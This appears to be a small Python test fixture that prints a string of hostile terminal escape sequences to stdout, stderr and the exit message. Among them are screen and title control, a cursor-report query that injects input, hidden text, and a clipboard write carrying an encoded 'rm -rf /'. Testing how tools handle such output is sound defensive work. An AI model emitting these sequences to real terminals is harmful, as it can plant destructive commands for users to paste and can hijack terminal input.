import sys

text = "\x1b[2J\x1b[H\x1b]0;title\x07\x1b[6n\x1b]52;c;cm0gLXJmIC8=\x07\x1bP+q\x1b\\\x9b31m\x07\b\b\r\x1b[8m"
print(text)
print(text, file=sys.stderr)
raise SystemExit(text)
